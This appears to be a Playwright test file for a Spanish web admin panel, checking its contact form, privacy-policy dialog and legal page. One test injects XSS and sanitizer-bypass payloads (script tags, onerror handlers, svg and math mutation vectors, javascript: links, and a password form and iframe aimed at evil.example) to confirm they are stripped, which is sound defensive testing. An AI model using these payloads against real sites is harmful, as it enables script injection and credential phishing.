/** The contact page, the privacy policy it names, and the legal page. */
import assert from "node:assert/strict";
import { test } from "node:test";
import type { Page } from "playwright-core";
import {
  assertAccessible,
  assertNoSidewaysScroll,
  eventually,
  everyLook,
  type Look,
  signIn,
  titleOf,
  useBrowser,
  whenFocused,
} from "./browser.ts";
import { done, refused } from "./envelope.ts";
import { atrio } from "./product.ts";
import { dialog } from "./zone.ts";

const browser = useBrowser();

interface StoredMessage {
  readonly email: string | null;
  readonly subject: string | null;
  readonly contents: string;
  readonly username: string | null;
}
const messages = async (): Promise<StoredMessage[]> => {
  const stored: StoredMessage[] = JSON.parse(await atrio("messages", "--json"));
  return stored;
};

async function openContact(look?: Look): Promise<Page> {
  const page = await browser.as("owner", look);
  await page.goto("/admin/contact/");
  await page.getByRole("heading", { level: 1, name: /^(Contacto|Contact)$/ }).waitFor();
  return page;
}
const email = (page: Page) => page.getByRole("textbox", { name: /^Tu correo/ });
const subject = (page: Page) => page.getByRole("textbox", { name: /^Asunto/ });
const question = (page: Page) => page.getByRole("textbox", { name: /^Consulta/ });
const consent = (page: Page) => page.getByRole("checkbox", { name: "Acepto la política de privacidad" });
const send = (page: Page) => page.getByRole("button", { name: "Enviar" });

/** React Aria hides the box itself behind the drawn one: the label is what a pointer meets. */
const tick = (page: Page) => consent(page).check({ force: true });

async function write(page: Page, about: string): Promise<void> {
  await email(page).fill("ana@example.com");
  await subject(page).fill(about);
  await question(page).fill("¿Cuándo caduca?\nGracias.");
}

test("a message is sent and stored; only then the form is empty again", async () => {
  const page = await openContact();
  const about = `Renovación ${Date.now()}`;
  await write(page, about);
  assert.ok(await send(page).isDisabled());
  await tick(page);
  await page.route("**/api/contactmail/", (route) =>
    route.fulfill({ status: 429, json: refused(103, ["Espera un minuto"]) }),
  );
  await send(page).click();
  await page.getByText("Espera un minuto").waitFor();
  assert.equal(await subject(page).inputValue(), about);
  assert.ok(await consent(page).isChecked());
  await page.unroute("**/api/contactmail/");
  await send(page).click();
  await page.getByText("Hemos recibido tu mensaje. Te responderemos por correo.").waitFor();
  for (const field of [email(page), subject(page), question(page)])
    await eventually(() => field.inputValue(), "");
  await eventually(() => consent(page).isChecked(), false);
  await eventually(() => send(page).isDisabled(), true);
  await whenFocused(email(page));
  const stored = (await messages()).filter((message) => message.subject === about);
  assert.equal(stored.length, 1);
  assert.equal(stored[0]?.email, "ana@example.com");
  assert.equal(stored[0]?.username, "owner");
  assert.match(stored[0]?.contents ?? "", /^¿Cuándo caduca\?\r?\nGracias\.$/);
});

test("by keyboard alone, and each wrong field says what is wrong with it", async () => {
  const page = await openContact();
  await email(page).focus();
  await page.keyboard.type("ana");
  await page.keyboard.press("Tab");
  await page.keyboard.press("Tab");
  await page.keyboard.press("Tab");
  await page.keyboard.press("Space");
  assert.ok(await consent(page).isChecked());
  await page.keyboard.press("Tab");
  await page.keyboard.press("Tab");
  await page.keyboard.press("Enter");
  await page.getByText(/^Escribe una dirección de correo/).waitFor();
  assert.equal(await page.getByText("Campo obligatorio").count(), 2);
  await whenFocused(email(page));
  assert.equal(await email(page).getAttribute("aria-invalid"), "true");
  await assertAccessible(page);
});

test("the first press on Send after a correction sends: the message that goes moves nothing", async () => {
  const page = await openContact();
  await page.route("**/api/contactmail/", (route) => route.fulfill({ json: done(null) }));
  await write(page, "Corregido");
  await email(page).fill("ana");
  await tick(page);
  await send(page).click();
  await page.getByText(/^Escribe una dirección de correo/).waitFor();
  // Typed, so that the field is left only by the press.
  await email(page).press("End");
  await page.keyboard.type("@example.com");
  await send(page).click();
  await page.getByText("La operación se ha realizado").waitFor();
});

test("what is half-written is there again after another page, and gone once it is sent", async () => {
  const page = await openContact();
  await write(page, "A medias");
  await tick(page);
  const leave = async () => {
    await page.getByRole("link", { name: "Preferencias" }).first().click();
    await page.getByRole("heading", { level: 1, name: "Preferencias" }).waitFor();
    await page.getByRole("link", { name: "Contacto" }).first().click();
    await email(page).waitFor();
  };
  await leave();
  await eventually(() => subject(page).inputValue(), "A medias");
  assert.equal(await question(page).inputValue(), "¿Cuándo caduca?\nGracias.");
  await eventually(() => consent(page).isChecked(), true);
  await page.route("**/api/contactmail/", (route) => route.fulfill({ json: done(null) }));
  await send(page).click();
  await eventually(() => subject(page).inputValue(), "");
  await leave();
  assert.equal(await subject(page).inputValue(), "");
});

test("a reload of the tab keeps it too, until it is sent or the user signs out", async () => {
  const page = await browser.anonymous();
  await page.goto("/login/");
  await signIn(page, "owner");
  const open = () => page.goto("/admin/contact/").then(() => email(page).waitFor());
  const keptNote = page.getByText("Lo que habías escrito sigue aquí");
  const half = async () => {
    await open();
    await write(page, "Antes de F5");
    await tick(page);
    await page.reload();
    await keptNote.waitFor();
    await eventually(() => subject(page).inputValue(), "Antes de F5");
    assert.equal(await question(page).inputValue(), "¿Cuándo caduca?\nGracias.");
    await eventually(() => consent(page).isChecked(), true);
  };
  await half();
  await page.reload();
  await eventually(() => subject(page).inputValue(), "Antes de F5");
  await page.route("**/api/contactmail/", (route) => route.fulfill({ json: done(null) }));
  await send(page).click();
  await eventually(() => subject(page).inputValue(), "");
  await page.reload();
  await email(page).waitFor();
  assert.equal(await subject(page).inputValue(), "");

  await half();
  await page.getByRole("button", { name: /owner/ }).click();
  await page.getByRole("menuitem", { name: "Cerrar sesión" }).click();
  await page.waitForURL("**/login/");
  assert.doesNotMatch(await page.evaluate(() => JSON.stringify(sessionStorage)), /Antes de F5/);
  await signIn(page, "viewer");
  await open();
  assert.equal(await keptNote.count(), 0);
  assert.equal(await subject(page).inputValue(), "");
});

test("a tab that another user takes over at its next page shows nothing of what was typed there", async () => {
  const page = await browser.anonymous();
  await page.goto("/login/");
  await signIn(page, "owner");
  await page.goto("/admin/contact/");
  await write(page, "Solo para mí");
  const viewer = await browser.as("viewer");
  await page.context().addCookies(await viewer.context().cookies());
  await page.reload();
  await page.getByRole("button", { name: /viewer/ }).waitFor();
  await email(page).waitFor();
  assert.equal(await subject(page).inputValue(), "");
  assert.doesNotMatch(await page.evaluate(() => JSON.stringify(sessionStorage)), /Solo para mí/);
});

test("the label opens the policy in a dialog, and the form is as it was", async () => {
  const page = await openContact();
  await subject(page).fill("Factura");
  await page.getByRole("button", { name: "política de privacidad" }).click();
  await dialog(page).getByRole("heading", { level: 2 }).first().waitFor();
  assert.equal(await consent(page).isChecked(), false);
  await assertAccessible(page);
  await page.keyboard.press("Escape");
  await dialog(page).waitFor({ state: "detached" });
  assert.equal(await subject(page).inputValue(), "Factura");
  await whenFocused(page.getByRole("button", { name: "política de privacidad" }));
});

test("the words of the label tick the box; on a phone box and link are targets of 44 px", async () => {
  const page = await browser.as("owner", { phone: true });
  await page.goto("/admin/contact/");
  await page.getByText("Acepto la", { exact: true }).click();
  assert.ok(await consent(page).isChecked());
  assert.equal(await dialog(page).count(), 0);
  await page.getByText("Acepto la", { exact: true }).click();
  assert.equal(await consent(page).isChecked(), false);
  const box = page.locator("label", { has: consent(page) });
  for (const target of [box, page.getByRole("button", { name: "política de privacidad" })]) {
    const { width = 0, height = 0 } = (await target.boundingBox()) ?? {};
    assert.ok(width >= 44 && height >= 44, `${width} × ${height}`);
  }
});

test("a policy that does not load says so and can be asked for again", async () => {
  const page = await browser.as("owner");
  await page.route("**/api/legal/privacypolicy/", (route) => route.fulfill({ status: 404, body: "{}" }));
  await page.goto("/admin/contact/");
  await page.getByRole("button", { name: "política de privacidad" }).click();
  await dialog(page).getByText("No se ha podido cargar la política de privacidad").waitFor();
  await page.unroute("**/api/legal/privacypolicy/");
  await dialog(page).getByRole("button", { name: "Reintentar" }).click();
  await dialog(page).getByText("No se ha podido cargar").waitFor({ state: "detached" });
});

test("legal: the company's text, in the language of the panel", async () => {
  const texts = new Set<string>();
  for (const [language, title] of [
    ["es", "Aviso legal"],
    ["en", "Legal notice"],
  ] as const) {
    const page = await browser.as("owner", { language });
    await page.goto("/legal/");
    await page.getByRole("heading", { level: 1, name: title }).first().waitFor();
    await page.locator("main p").first().waitFor();
    texts.add(await page.locator("main").innerText());
    await page.waitForFunction((begin) => document.title.startsWith(begin), `${title} / `);
  }
  assert.equal(texts.size, 2);
});

test("legal: where the places in forms come from, whatever the company's text", async () => {
  for (const [language, sentence] of [
    ["es", "localidades de los formularios proceden de GeoNames (CC BY 4.0)."],
    ["en", "towns in forms come from GeoNames (CC BY 4.0)."],
  ] as const) {
    const page = await browser.as("owner", { language });
    await page.goto("/legal/");
    await page.getByText(sentence).waitFor();
    const licence = page.getByRole("link", { name: "CC BY 4.0" });
    assert.equal(await licence.getAttribute("href"), "https://creativecommons.org/licenses/by/4.0/");
    await assertAccessible(page);
  }
});

test("legal: nobody without a session", async () => {
  const page = await browser.anonymous();
  await page.goto("/legal/");
  await page.waitForURL("**/login/");
});

const answerLegal = (page: Page, text: string) =>
  page.route("**/api/legal/", (route) => route.fulfill({ json: done({ text }) }));

test("legal: HTML that got past the server does nothing here", async () => {
  const page = await browser.as("owner");
  // The browser reports what its policy keeps from running while the text is parsed.
  page.removeAllListeners("console");
  await answerLegal(
    page,
    `<h2 id="root" class="fixed inset-0" style="color:red">Condiciones</h2>
     <script>document.title = "attacked"</script><img src=x onerror="document.title = 'attacked'">
     <svg><style><img src=x onerror="document.title = 'attacked'"></style></svg>
     <form action="https://evil.example/"><input name="password"><button>Entrar</button></form>
     <iframe src="https://evil.example/"></iframe>
     <p><a href="javascript:document.title='attacked'">uno</a> <a href="data:text/html,x">dos</a>
     <a href="//evil.example/">tres</a> <a href="https://example.com/" target="_self" onclick="x()">cuatro</a></p>
     <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=document.title='attacked'&gt;">`,
  );
  await page.goto("/legal/");
  await page.getByRole("heading", { name: "Condiciones" }).waitFor();
  const left = await page.locator("main").evaluate((main) => ({
    forbidden: main.querySelectorAll("script, img, style, form, input, iframe, math, [id=root], [onclick]")
      .length,
    styled: main.querySelectorAll("h2[class], h2[style]").length,
    links: [...main.querySelectorAll("p a")].map((link) => link.getAttribute("href")),
    last: main.querySelector("p a:last-child")?.outerHTML,
  }));
  assert.deepEqual(left, {
    forbidden: 0,
    styled: 0,
    links: [null, null, null, "https://example.com/"],
    last: left.last,
  });
  assert.match(left.last!, /target="_blank"/);
  assert.match(left.last!, /rel="noopener noreferrer nofollow"/);
  await page.waitForFunction(() => document.title.startsWith("Aviso legal"));
});

test("legal: a company without texts says what will be here", async () => {
  const page = await browser.as("owner");
  await answerLegal(page, "");
  await page.goto("/legal/");
  await page.getByText("Aún no hay textos legales").waitFor();
  await assertAccessible(page);
});

const rich = `<h2>1. Objeto</h2><p>Texto con <a href="https://example.com/">enlace</a> y <code>código</code>.</p>
  <table><thead><tr><th>Servicio</th><th>Plazo</th><th>Condición</th></tr></thead><tbody><tr>
  <td>${"Unapalabralarguísima".repeat(4)}</td><td>1 año</td><td>Ninguna</td></tr></tbody></table>
  <ol><li>Uno</li><li>Dos<ul><li>Tres</li></ul></li></ol><blockquote>Cita</blockquote>`;
for (const look of everyLook)
  test(`axe and no sideways scrolling: ${titleOf(look)}`, async () => {
    const page = await openContact(look);
    await page.getByRole("button", { name: /^(política de privacidad|privacy policy)$/ }).click();
    await dialog(page).waitFor();
    await assertAccessible(page);
    await page.keyboard.press("Escape");
    await dialog(page).waitFor({ state: "detached" });
    await assertAccessible(page);
    await assertNoSidewaysScroll(page);
    await answerLegal(page, rich);
    await page.goto("/legal/");
    await page.getByRole("heading", { name: "1. Objeto" }).waitFor();
    await assertAccessible(page);
    await assertNoSidewaysScroll(page);
  });
